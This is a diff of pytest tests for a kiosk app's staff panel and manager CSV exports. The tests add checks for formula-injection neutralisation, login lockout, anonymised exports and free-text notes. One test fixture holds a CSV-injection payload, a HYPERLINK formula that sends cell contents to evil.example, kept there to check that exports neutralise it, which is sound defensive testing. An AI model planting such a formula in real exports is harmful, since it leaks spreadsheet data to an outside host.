@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 from zoneinfo import ZoneInfo
 
 import pytest
 
+from kiosk.staff.accounts import NOTE_REASONS
 from kiosk.statistics.report import SUMMARY_COLUMNS
-from kiosk.statistics.store import EXPORT_COLUMNS
+from kiosk.statistics.store import MANAGER_EXPORT_COLUMNS
 from tests.support.auth import AuthActions
 from tests.support.waiting import wait_recorded, wait_until
 
@@ -82,12 +84,18 @@ def test_staff_age_band_when_configured(instance):
         app.extensions["kiosk.terminal"].stop()
 
 
-def test_a_note_with_digits_is_refused(client, auth, accounts):
+@pytest.mark.parametrize("text", ["her PIN is 1 2 3 4", "4.3.2.1", "四三二一", "いち に さん よん",
+                                  "山田花子さん 東京都千代田区", "asked about the clinic's reader"])
+def test_a_note_is_a_reason_from_the_list_never_free_text(client, auth, accounts, text):
+    # The review passed PINs and names through the digit filter: notes are now picked from a list.
     auth.staff_login()
-    page = client.post("/staff/note", data={"text": "her PIN is 1 2 3 4"}, follow_redirects=True)
-    assert "Not saved" in page.get_data(as_text=True) or "保存していません" in page.get_data(as_text=True)
-    client.post("/staff/note", data={"text": "asked about the clinic's reader"})
-    assert [n["text"] for n in accounts.notes()] == ["asked about the clinic's reader"]
+    panel = client.get("/staff/").get_data(as_text=True)
+    assert 'name="reason"' in panel and "<textarea" not in panel
+    assert all(f'value="{code}"' in panel for code in NOTE_REASONS)  # every reason has its words
+    client.post("/staff/note", data={"reason": text, "text": text})
+    assert accounts.notes() == []
+    client.post("/staff/note", data={"reason": "forgot_pin"})
+    assert [n["text"] for n in accounts.notes()] == ["forgot_pin"]
 
 
 def test_forms_without_a_csrf_token_are_rejected(app, accounts):
@@ -119,7 +127,7 @@ def test_manager_area_exports_and_lock_out(make_app):
         events = client.get(f"/manager/export/events.csv?encoding={encoding}")
         assert events.status_code == 200 and events.data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")
         header, *rows = csv.reader(io.StringIO(events.data.decode(codec), newline=""))
-        assert tuple(header) == EXPORT_COLUMNS
+        assert tuple(header) == MANAGER_EXPORT_COLUMNS
         (row,) = (dict(zip(header, r, strict=True)) for r in rows)
         assert row["venue"] == "本庁舎" and row["outcome"] == "registered" and row["age_band"] == "75+"
         assert row["pin_attempts"] == "1" and row["row_hash"] == terminal.stats.head()
@@ -137,7 +145,7 @@ def test_manager_area_exports_and_lock_out(make_app):
     for _ in range(5):
         assert auth.manager_login(password="wrong").status_code == 200
     locked = auth.manager_login()
-    assert locked.status_code == 429
+    assert locked.status_code == 200 and "15分間サインインできません" in locked.get_data(as_text=True)
     assert client.get("/manager/export/events.csv").status_code == 302  # still out
 
 
@@ -159,3 +167,130 @@ def test_manager_dashboard_report_and_csv(client, auth, demo, terminal, accounts
         assert row["outcome"] == "declined" and row["row_hash"] == terminal.stats.head()
         summary = client.get(f"/manager/export/summary.csv?encoding={encoding}").data.decode(codec)
         assert "total,sessions,1" in summary
+
+
+FORMULA_VENUE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("encoding,codec", [("utf-8", "utf-8-sig"), ("cp932", "cp932")])
+def test_exported_cells_never_start_a_spreadsheet_formula(make_app, encoding, codec):
+    # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote,
+    # so Excel on the manager's PC shows the text instead of running it.
+    from tests.servers.test_staff_and_reports import event
+
+    app = make_app(venue=FORMULA_VENUE)
+    app.config["WTF_CSRF_ENABLED"] = False
+    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
+    stats = app.extensions["kiosk.terminal"].stats
+    now = dt.datetime.now(ZoneInfo(app.config["KIOSK"].timezone))
+    row = list(event(now.strftime("%Y-%m-%d %H:%M"), venue=FORMULA_VENUE))
+    row[14] = "+1"  # options: a free cell, standing in for a helper's note
+    stats.append([tuple(row), event(now.strftime("%Y-%m-%d %H:%M"), venue="@SUM(1)")])
+    client = app.test_client()
+    AuthActions(client).manager_login()
+    events = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
+    summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={now:%Y-%m}").data.decode(codec)
+    cells = [c for r in csv.reader(io.StringIO(events, newline="")) for c in r]
+    cells += [c for r in csv.reader(io.StringIO(summary, newline="")) for c in r]
+    assert "'" + FORMULA_VENUE in cells and "'+1" in cells and "'@SUM(1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_neutralised_export_still_merges_with_its_chain_intact(tmp_path):
+    from kiosk.statistics.store import StatsStore, merge_exports
+    from tests.servers.test_staff_and_reports import event
+
+    store = StatsStore(tmp_path / "stats.sqlite3")
+    store.append([event("2026-11-05 10:00", venue=FORMULA_VENUE), event("2026-11-05 11:00", venue="'quoted")])
+    path = tmp_path / "events.csv"
+    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
+        store.export_csv(fh)
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
+    merged, [(_, check)] = merge_exports([path])
+    assert check.ok and [r["venue"] for r in merged] == [FORMULA_VENUE, "'quoted"]
+
+
+def _answer(response, name: str) -> tuple[int, str]:
+    """What the sign-in page says, less the per-response CSRF token and the name typed (echoed)."""
+    page = re.sub(r'<meta name="csrf-token"[^>]*>', "", response.get_data(as_text=True))
+    return response.status_code, page.replace(f'value="{name}"', 'value="NAME"')
+
+
+def test_a_locked_manager_and_an_unknown_name_get_the_same_answer(make_app):
+    app = make_app()
+    app.config["WTF_CSRF_ENABLED"] = False
+    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
+    client = app.test_client()
+    auth = AuthActions(client)
+    wrong = auth.manager_login(password="wrong password")
+    unknown = auth.manager_login(name="nobody", password="wrong password")
+    assert _answer(wrong, "boss") == _answer(unknown, "nobody")
+    for _ in range(5):
+        auth.manager_login(password="wrong password")
+    locked = auth.manager_login()  # the right password, while locked
+    for _ in range(6):
+        unknown = auth.manager_login(name="nobody", password="wrong password")
+    assert _answer(locked, "boss") == _answer(unknown, "nobody") == _answer(wrong, "boss")
+    assert client.get("/manager/").status_code == 302
+
+
+def _visit_on_panel(client) -> str:
+    html = client.get("/staff/").get_data(as_text=True)
+    (visit,) = set(re.findall(r'name="visit" value="([0-9a-f]+)"', html))
+    return visit
+
+
+def test_allowing_the_last_try_is_bound_to_the_visit_the_helper_saw(client, auth, demo, terminal, accounts):
+    auth.staff_login()
+    demo.insert("sachiko")  # one PIN try left: the kiosk waits for a helper
+    wait_until(lambda: terminal.snapshot()["reason"] == "one_try_left")
+    earlier = _visit_on_panel(client)
+    demo.remove()
+    wait_until(lambda: terminal.snapshot()["step"] == "idle")
+    demo.insert("sachiko")  # the next resident, also with one try left
+    wait_until(lambda: terminal.snapshot()["reason"] == "one_try_left")
+
+    client.post("/staff/action", data={"action": "allow_last_try", "visit": earlier})  # a stale panel
+    assert not terminal.snapshot()["last_try_allowed"] and terminal.snapshot()["step"] != "pin"
+    client.post("/staff/action", data={"action": "allow_last_try"})  # no visit at all
+    assert not terminal.snapshot()["last_try_allowed"]
+
+    current = _visit_on_panel(client)
+    assert current != earlier
+    client.post("/staff/action", data={"action": "allow_last_try", "visit": current})
+    assert terminal.snapshot()["last_try_allowed"] and terminal.snapshot()["step"] == "pin"
+
+
+def test_the_managers_events_csv_is_anonymous(make_app):
+    # The review: holder_key plus times to the second made the export pseudonymous, not anonymous.
+    from tests.servers.test_staff_and_reports import event
+
+    app = make_app()
+    app.config["WTF_CSRF_ENABLED"] = False
+    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
+    rows = []
+    for i, holder in enumerate(("a1" * 16, "b2" * 16, "a1" * 16)):
+        row = list(event(f"2026-11-05 1{i}:00", holder=holder))
+        row[3], row[4] = f"2026-11-05T0{i}:12:34+00:00", f"2026-11-05T0{i}:14:09+00:00"
+        rows.append(tuple(row))
+    app.extensions["kiosk.terminal"].stats.append(rows)
+    client = app.test_client()
+    AuthActions(client).manager_login()
+    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
+        body = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
+        assert "holder_key" not in body and "a1a1" not in body and "b2b2" not in body
+        exported = list(csv.DictReader(io.StringIO(body, newline="")))
+        assert [r["started_at"] for r in exported] == [f"2026-11-05T0{i}:12+00:00" for i in range(3)]
+        assert [r["ended_at"] for r in exported] == [f"2026-11-05T0{i}:14+00:00" for i in range(3)]
+        assert [r["holder_visit"] for r in exported] == ["1", "1", "2"]  # the repeat visit is still counted
+
+
+def test_wrong_staff_pins_pause_that_account_and_unknown_codes_answer_alike(client, auth, accounts):
+    # The review guessed all 10,000 four-digit PINs in 12 minutes: wrong tries now pause sign-in.
+    for _ in range(5):
+        assert auth.staff_login(pin="1357").status_code == 200
+    paused = auth.staff_login()  # the right PIN, too late
+    assert paused.status_code == 200 and client.get("/staff/").status_code == 302
+    for _ in range(6):
+        unknown = auth.staff_login(code="nobody", pin="1357")
+    assert _answer(paused, "helper1") == _answer(unknown, "nobody")
